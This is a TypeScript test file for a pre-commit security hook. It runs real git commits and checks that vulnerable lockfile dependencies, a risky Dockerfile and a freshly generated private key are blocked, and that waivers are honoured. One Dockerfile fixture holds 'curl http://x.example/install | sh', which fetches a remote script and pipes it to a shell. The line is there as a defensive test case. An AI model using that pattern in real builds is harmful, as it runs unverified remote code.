/** The pre-commit hook: real commits in a real repository, by git itself and by pre-commit where it is installed. */
import { generateKeyPairSync } from 'node:crypto';
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { repo } from './real/cache.ts';
import { scratch } from './real/plimsoll.ts';
import { missing, type Ran, run, skipping } from './real/programs.ts';
import { gitRepository, makeYard, type Yard } from './real/shift-left.ts';

const { folder, remove } = scratch('hook');
let yard: Yard;
let work = '';
let turn = 0;
let git: (...args: string[]) => Promise<Ran>;
beforeAll(async () => {
  yard = await makeYard(folder);
});
afterAll(remove);

/** A lockfile of npm with these packages. */
const lock = (packages: Record<string, string>): string =>
  JSON.stringify({
    name: 'app',
    lockfileVersion: 3,
    packages: Object.fromEntries([
      ['', { name: 'app' }],
      ...Object.entries(packages).map(([name, version]) => [`node_modules/${name}`, { version }]),
    ]),
  });

const put = (name: string, text: string): void => writeFileSync(join(work, name), text);
const commit = async (...files: string[]): Promise<Ran> => {
  await git('add', '--', ...files);
  return git('commit', '--message', 'next');
};

describe.skipIf(skipping('the git hook', missing('git')))('a commit with the hook', () => {
  beforeEach(async () => {
    work = join(folder, `work-${turn++}`);
    git = await gitRepository(work, { 'package-lock.json': lock({ right: '1.0.0' }), README: 'first\n' }, yard.env);
    symlinkSync(join(repo, 'bin/plimsoll-hook'), join(work, '.git/hooks/pre-commit'));
  });

  test('passes without a word where it brings nothing new', async () => {
    put('README', 'second\n');
    const ran = await commit('README');
    expect([ran.code, ran.stderr], ran.stdout).toEqual([0, '']);
  });

  test('is stopped by a flawed dependency that it brings, and says which', async () => {
    put('package-lock.json', lock({ left: '1.0.0', right: '1.0.0' }));
    const ran = await commit('package-lock.json');
    expect(ran.code).toBe(1);
    expect(ran.stdout + ran.stderr).toMatch(/CVE-2024-0001 +left/);
  });

  test('is not stopped by what was there before, nor by what is not staged', async () => {
    put('package-lock.json', lock({ left: '1.0.0' }));
    await git('commit', '--all', '--no-verify', '--message', 'flawed');
    put('README', 'third\n');
    put('package-lock.json', lock({ left: '1.0.0', other: '1.0.0' }));
    expect((await commit('README')).code).toBe(0);
    expect((await commit('package-lock.json')).code).toBe(0);
    put('sub-lock.json', '{}');
    expect((await commit('sub-lock.json')).code).toBe(0);
  });

  test('is stopped by a risky Dockerfile and by a secret', async () => {
    put('Dockerfile', 'FROM debian:12\nRUN curl http://x.example/install | sh\n');
    const risky = await commit('Dockerfile');
    expect([risky.code, risky.stdout + risky.stderr]).toEqual([1, expect.stringContaining('Dockerfile:2')]);
    await git('reset', '--quiet');
    const key = generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey.export({ type: 'pkcs8', format: 'pem' });
    put('a name with spaces.pem', String(key));
    const leaking = await commit('a name with spaces.pem');
    expect(leaking.code, leaking.stdout + leaking.stderr).toBe(1);
    expect(leaking.stdout + leaking.stderr).not.toContain(String(key).split('\n')[1]);
  });

  test('heeds waivers of the repository, and the severity that was asked for', async () => {
    put('package-lock.json', lock({ left: '1.0.0' }));
    put(
      'plimsoll.yaml',
      'apiVersion: plimsoll.dev/v1\nkind: Waivers\nwaivers: [{ id: CVE-2024-0001, reason: never called, owner: a, expires: 2099-01-01 }]\n',
    );
    expect((await commit('package-lock.json')).code).toBe(0);
  });

  test('works for the first commit of a repository', async () => {
    await run('git', ['update-ref', '-d', 'HEAD'], { cwd: work });
    put('package-lock.json', lock({ left: '1.0.0' }));
    expect((await commit('package-lock.json')).code).toBe(1);
  });

  const tool = process.env['PRE_COMMIT'] ?? 'pre-commit';
  const noTool = process.env['PRE_COMMIT'] ? undefined : missing('pre-commit');
  describe.skipIf(skipping('pre-commit', noTool))('through pre-commit', () => {
    const preCommit = (...args: string[]): Promise<Ran> =>
      run(tool, args, { cwd: work, env: { ...process.env, ...yard.env, PRE_COMMIT_HOME: join(folder, 'pre-commit') } });

    test('the manifest of the hooks is one', async () => {
      const ran = await preCommit('validate-manifest', join(repo, '.pre-commit-hooks.yaml'));
      expect(ran.code, ran.stdout + ran.stderr).toBe(0);
    });

    test('the hook is installed from a repository, and stops what it should', async () => {
      // The hooks’ own repository, as pre-commit clones it.
      const source = join(folder, 'source');
      mkdirSync(source, { recursive: true });
      const { stdout: manifest } = await run('cat', [join(repo, '.pre-commit-hooks.yaml')]);
      const ours = await gitRepository(source, { '.pre-commit-hooks.yaml': manifest });
      const rev = (await ours('rev-parse', 'HEAD')).stdout.trim();
      put(
        '.pre-commit-config.yaml',
        `repos:\n  - repo: ${source}\n    rev: ${rev}\n    hooks: [{ id: plimsoll, verbose: true }]\n`,
      );
      put('package-lock.json', lock({ left: '1.0.0' }));
      await git('add', '--all');
      const staged = await preCommit('run');
      expect([staged.code, staged.stdout + staged.stderr]).toEqual([1, expect.stringContaining('CVE-2024-0001')]);
      await git('commit', '--no-verify', '--message', 'flawed');
      const all = await preCommit('run', '--all-files');
      expect([all.code, all.stdout + all.stderr]).toEqual([1, expect.stringContaining('CVE-2024-0001')]);
      const range = await preCommit('run', '--from-ref', 'HEAD~1', '--to-ref', 'HEAD');
      expect([range.code, range.stdout]).toEqual([1, expect.stringContaining('CVE-2024-0001')]);
    });
  });
});
